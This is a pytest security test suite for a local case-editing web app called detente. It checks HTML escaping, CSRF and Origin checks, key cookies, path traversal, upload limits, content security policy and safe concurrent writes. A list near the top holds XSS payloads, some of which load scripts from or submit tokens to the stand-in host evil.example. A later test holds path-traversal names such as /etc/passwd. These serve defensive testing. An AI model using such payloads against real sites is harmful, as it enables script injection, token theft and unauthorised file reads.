"""What the workbench turns away, and what it never lets out, or in."""

import contextlib
import html
import json
import os
import re
import signal
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx2 as httpx
import pytest

from detente.files import loads
from detente.web.further import QUESTIONS

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
NASTY = [
    "<script>alert({0})</script>",
    "</p><script src=//evil.example/{0}.js></script>",
    "<img src=x onerror=alert({0})>",
    "<svg onload=alert({0})>",
    '"><script>alert({0})</script>',
    "'><iframe src=javascript:alert({0})>",
    "javascript:alert({0})",
    "{{{{ {0} * 7 }}}}",
    "{{% for x in range({0}) %}}",
    "&lt;script&gt;alert({0})&lt;/script&gt;",
    "</textarea><script>alert({0})</script>",
    "</style><script>alert({0})</script>",
    "<a href='data:text/html,{0}'>x</a>",
    "\u202e<script>{0}\u202c",
    "<meta http-equiv=refresh content='0;url=//evil.example/{0}'>",
    "<form action=//evil.example/{0}><input name=token>",
    "<base href=//evil.example/{0}/>",
    "<link rel=stylesheet href=//evil.example/{0}.css>",
    "<object data=//evil.example/{0}></object>",
    'hx-get="//evil.example/{0}" hx-trigger=load',
    "<div hx-get=//evil.example/{0} hx-trigger=load>",
]
HOSTILE = [template.format(number) for number in range(5) for template in NASTY]


def test_strings_that_mean_harm_come_out_as_text_on_every_page(bench, page):
    assert len(HOSTILE) >= 100
    told = [f"France demanded that Mali accept {one} by Friday." for one in HOSTILE]
    text = "Hostile words\n" + "\n".join(told) + "\nMali refused to accept the demand of France.\n"
    with bench.client() as client:
        bench.post(client, "/reports", title=HOSTILE[0], text=text)
        (report,) = (path.name for path in bench.folder.glob("*.txt"))
        name = bench.draft(client, report=report)
    alerts = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    case = f"/case/{name}"
    opened = ("", "/solve", "/solve?way=0", "/paths", "/state/none", "/brief")
    places = [f"{case}{place}" for place in opened]
    places += [f"{case}/further/{one}" for one in QUESTIONS]
    for place in (f"/report/{report}", *places, "/"):
        page.goto(bench.address + place)
        page.wait_for_timeout(100)
        assert page.locator("script:not([src^='/static/'])").count() == 0
        assert page.locator("iframe:not(.brief), object, base, main meta").count() == 0
    page.goto(f"{bench.address}/case/{name}/brief.html")
    assert page.locator("script").count() == 0
    assert alerts == []
    assert {httpx.URL(url).host for url in asked if url.startswith("http")} == {"127.0.0.1"}


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({"host": "evil.example"}, 421),
        ({"origin": "http://evil.example"}, 403),
        ({"origin": "null"}, 403),
    ],
)
def test_requests_of_other_sites_are_turned_away(bench, headers, status):
    with bench.client() as client:
        data = {"token": bench.token(client), "name": "chicken"}
        assert client.post("/catalogue", data=data, headers=headers).status_code == status
    assert list(bench.folder.glob("*.toml")) == []


ADDRESSES = (
    "/",
    "/case/case.toml",
    "/case/case.toml/case.toml",
    "/report/secret.txt",
    "/nothing",
    "/static/workbench.css",
    "/version/case.toml",
    "/?key=",
    "/?key=wrong",
)


def test_who_has_no_key_sees_nothing_and_changes_nothing(bench):
    (bench.folder / "secret.txt").write_text("France urged Mali to pay.")
    (bench.folder / "case.toml").write_text("format = 1\n")
    with bench.client() as client:
        token = bench.token(client)
    before = {path.name: path.read_bytes() for path in bench.folder.iterdir() if path.is_file()}
    name = bench.cookie["name"]
    for kept in ({}, {name: "wrong"}, {name: ""}, {"detente-1": bench.key}, {name: token}):
        with httpx.Client(base_url=bench.address, cookies=kept) as client:
            for address in ADDRESSES:
                done = client.get(address)
                assert done.status_code == 403
                assert "asks for its key" in done.text
                assert "secret" not in done.text
                assert token not in done.text
                assert "set-cookie" not in done.headers
            form = {"token": token, "name": "chicken"}
            for address in ("/catalogue", f"/catalogue?key={bench.key}", "/edit/case.toml"):
                assert client.post(address, data=form).status_code == 403
            assert client.request("DELETE", "/").status_code == 403
            assert client.head("/").status_code == 403
    after = {path.name: path.read_bytes() for path in bench.folder.iterdir() if path.is_file()}
    assert after == before


def test_the_key_becomes_a_cookie_for_this_site_and_no_script(bench):
    with httpx.Client(base_url=bench.address) as client:
        done = client.get(f"/?key={bench.key}")
        assert done.status_code == 200
        assert bench.key not in done.text
        told = done.headers["set-cookie"].lower()
        assert "httponly" in told
        assert "samesite=strict" in told
        assert "domain" not in told
        assert 'name="token"' in client.get("/").text


def test_the_printed_address_opens_the_workspace_and_keeps_the_key_from_view(bench, chromium):
    context = chromium.new_context()
    opened = context.new_page()
    assert opened.goto(bench.address).status == 403
    assert opened.locator("h1").inner_text() == "This workbench asks for its key"
    opened.goto(f"{bench.address}/?key={bench.key}")
    opened.wait_for_url(f"{bench.address}/")
    assert opened.locator('[name="token"]').count() > 0
    assert opened.evaluate("document.cookie") == ""
    context.close()


@pytest.mark.skipif(os.name == "nt", reason="the browser is a script of the shell here")
def test_the_browser_is_started_without_the_key_in_sight_of_others(tmp_path, chromium):
    script, words, copy = tmp_path / "browser", tmp_path / "words", tmp_path / "copy.html"
    script.write_text(
        f"""#!/bin/sh
stat -c %a "${{1#file://}}" "$(dirname "${{1#file://}}")" > {words}.rights
cp "${{1#file://}}" {copy}
echo "$@" > {words}.new
mv {words}.new {words}
"""
    )
    script.chmod(0o700)
    program = [sys.executable, "-m", "detente", "serve", tmp_path]
    environment = {**os.environ, "BROWSER": f"{script} %s"}
    with subprocess.Popen(program, stderr=subprocess.PIPE, text=True, env=environment) as process:
        try:
            address, key = re.search(
                r"(http://[^/]+)/\?key=(\S+)", process.stderr.readline()
            ).groups()
            until = time.monotonic() + 30
            while not words.exists() and time.monotonic() < until:
                time.sleep(0.05)
            assert key not in words.read_text()
            assert Path(f"{words}.rights").read_text().split()[1] == "700"
            context = chromium.new_context()
            opened = context.new_page()
            opened.goto(copy.as_uri())
            opened.wait_for_url(f"{address}/")
            assert opened.locator('[name="token"]').count() > 0
            context.close()
        finally:
            process.send_signal(signal.SIGINT)
            process.wait(10)
    assert not Path(words.read_text().strip().removeprefix("file://")).exists()


def test_a_form_without_the_token_changes_nothing(bench):
    with bench.client() as client:
        for token in ("", "wrong"):
            done = client.post("/catalogue", data={"token": token, "name": "chicken"})
            assert done.status_code == 403
        assert client.request("DELETE", "/").status_code == 405
    assert list(bench.folder.glob("*.toml")) == []


@pytest.mark.parametrize(
    "name",
    [
        "../outside.toml",
        "..%2foutside.toml",
        "%2e%2e/outside.toml",
        "/etc/passwd",
        "%2fetc%2fpasswd",
        ".detente/x.toml",
        "link.toml",
        "a/../../outside.toml",
        "\x00.toml",
    ],
)
def test_no_name_leads_out_of_the_workspace(bench, name):
    (bench.folder.parent / "outside.toml").write_text("format = 1\n")
    (bench.folder / "link.toml").symlink_to(bench.folder.parent / "outside.toml")
    with bench.client() as client:
        for stem in ("/case/", "/report/"):
            done = client.get(f"{stem}{name}".replace("\x00", "%00"))
            assert done.status_code in (400, 404)
            assert "root:" not in done.text
            assert "format" not in html.unescape(done.text).replace("formats", "")


def test_uploads_are_bounded(bench):
    with bench.client() as client:
        data = {"token": bench.token(client), "text": "x" * (22 * 2**20)}
        with contextlib.suppress(httpx.HTTPError):  # cut off while it was still talking
            assert client.post("/reports", data=data).status_code == 413
        assert client.get("/").status_code == 200
    assert list(bench.folder.glob("*.txt")) == []


def test_the_policy_of_every_page_forbids_foreign_and_inline_code(bench):
    with bench.client() as client:
        name = bench.copy_case(client)
        for place in ("/", f"/case/{name}", f"/case/{name}/solve", f"/case/{name}/brief.html"):
            answer = bench.get(client, place)
            policy = answer.headers["content-security-policy"]
            assert "default-src 'none'" in policy
            assert "unsafe" not in policy
            assert not re.search(r"(?:src|href)=\"(?:https?:)?//", answer.text)
            assert not re.search(r"\son\w+=", re.sub(r">[^<]*<", "><", answer.text))


def test_ten_people_who_edit_at_once_lose_no_edit(bench):
    with bench.client() as client:
        name = bench.copy_case(client)
        token = bench.token(client)
        where = "rules.infeasible"

    def add(number):
        told = 0
        with bench.client() as client:
            while True:
                form = {
                    "token": token,
                    "version": bench.version(client, name),
                    "action": "add",
                    "where": where,
                    "text": f"attack and limits and {'not ' * number}talks",
                }
                done = client.post(f"/edit/{name}", data=form)
                if done.status_code == 200:
                    return told
                assert done.status_code == 409, done.text
                told += 1

    with ThreadPoolExecutor(10) as pool:
        list(pool.map(add, range(10)))
    rules = loads((bench.folder / name).read_text("utf-8")).rules.infeasible
    assert len(rules) == 4 + 10
    assert len({rule.text for rule in rules}) == 14


def test_the_later_of_two_edits_of_one_version_is_told(bench):
    with bench.client() as client:
        name = bench.copy_case(client)
        version = bench.version(client, name)
        form = {"version": version, "action": "title", "text": "First"}
        assert bench.post(client, f"/edit/{name}", **form).status_code == 200
        late = bench.post(client, f"/edit/{name}", **{**form, "text": "Second"})
        assert late.status_code == 409
        assert "changed in the meantime" in late.text
    assert loads((bench.folder / name).read_text("utf-8")).title == "First"


def test_killed_while_it_writes_it_leaves_a_whole_case(bench):
    with bench.client() as client:
        name = bench.copy_case(client)
        token = bench.token(client)
        for number in range(12):
            version = bench.version(client, name)
            title = f"Title {number}"
            form = {"version": version, "token": token, "action": "title", "text": title}
            client.post(f"/edit/{name}", data=form)
        bench.process.kill()
        bench.process.wait()
    conflict = loads((bench.folder / name).read_text("utf-8"))
    assert conflict.title == "Title 11"
    history = json.loads((bench.folder / ".detente" / f"{name}.history.json").read_text("utf-8"))
    assert len(history["texts"]) == 13


def test_what_is_edited_keeps_its_comments(bench):
    with bench.client() as client:
        name = bench.copy_case(client)
        path = bench.folder / name
        comments = [line for line in path.read_text("utf-8").splitlines() if "#" in line]
        assert comments
        form = {"action": "move", "where": "parties.usa.prefers", "index": "0", "to": "1"}
        form["version"] = bench.version(client, name)
        done = bench.post(client, f"/edit/{name}", **form)
        assert done.status_code == 200
    kept = path.read_text("utf-8").splitlines()
    assert [line for line in comments if line not in kept] == []
